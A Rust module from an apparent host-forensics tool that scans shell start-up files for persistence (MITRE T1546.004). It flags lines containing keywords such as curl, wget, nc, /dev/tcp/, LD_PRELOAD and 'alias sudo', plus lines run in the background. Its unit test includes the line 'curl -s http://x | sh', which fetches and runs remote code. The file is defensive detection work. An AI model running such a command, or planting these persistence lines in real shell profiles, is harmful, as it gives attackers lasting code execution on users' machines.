//! Files that shells read when they start (bash(1), zsh(1)): the lines in them that run something telling.

use tegakari_model::StartEntry;

use super::Place;
use super::lines::{entry, lines, owner};

pub(super) struct ShellProfiles;

impl Place for ShellProfiles {
    fn id(&self) -> &'static str {
        "shell_profiles"
    }

    fn about(&self) -> &'static str {
        "what shells run when they start"
    }

    fn technique(&self) -> &'static str {
        "T1546.004"
    }

    fn files(&self) -> &'static [&'static str] {
        &[
            "etc/profile",
            "etc/profile.d/*",
            "etc/bash.bashrc",
            "etc/bashrc",
            "etc/zsh/*",
            "etc/zshrc",
            "etc/zshenv",
            "etc/csh.cshrc",
            "etc/fish/config.fish",
            "home/*/.bashrc",
            "home/*/.bash_profile",
            "home/*/.bash_login",
            "home/*/.bash_logout",
            "home/*/.bash_aliases",
            "home/*/.profile",
            "home/*/.zshrc",
            "home/*/.zprofile",
            "home/*/.zshenv",
            "home/*/.zlogin",
            "home/*/.config/fish/config.fish",
            "root/.bashrc",
            "root/.bash_profile",
            "root/.bash_login",
            "root/.bash_logout",
            "root/.bash_aliases",
            "root/.profile",
            "root/.zshrc",
            "root/.zprofile",
            "root/.zshenv",
            "root/.zlogin",
            "root/.config/fish/config.fish",
        ]
    }

    fn entries(&self, file: &str, bytes: &[u8]) -> Vec<StartEntry> {
        let telling = [
            "curl ",
            "wget ",
            "nc ",
            "ncat ",
            "/dev/tcp/",
            "base64",
            "eval ",
            "nohup ",
            "setsid ",
            "LD_PRELOAD",
            "PROMPT_COMMAND",
            "trap ",
            "alias sudo",
            "alias su=",
            "python",
            "perl ",
            "openssl ",
            "exec ",
            "/tmp/",
            "/dev/shm",
            "/var/tmp",
        ];
        lines(bytes)
            .into_iter()
            .filter(|(_, line)| {
                let behind = line.ends_with('&') && !line.ends_with("&&");
                behind || telling.iter().any(|word| line.contains(word))
            })
            .map(|(number, line)| {
                let mut found = entry(self.id(), file, number, &line);
                found.user = owner(file);
                found
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::{Place, ShellProfiles};

    #[test]
    fn telling_lines_are_told() {
        let text = b"# alias sudo\nPS1=x\nalias ls='ls -l'\n/opt/x/run &\ncurl -s http://x | sh\n";
        let got = ShellProfiles.entries("/home/eve/.bashrc", text);
        let lines: Vec<_> = got.iter().map(|one| one.stated.as_str()).collect();
        assert_eq!(lines, ["/home/eve/.bashrc:4", "/home/eve/.bashrc:5"]);
    }
}
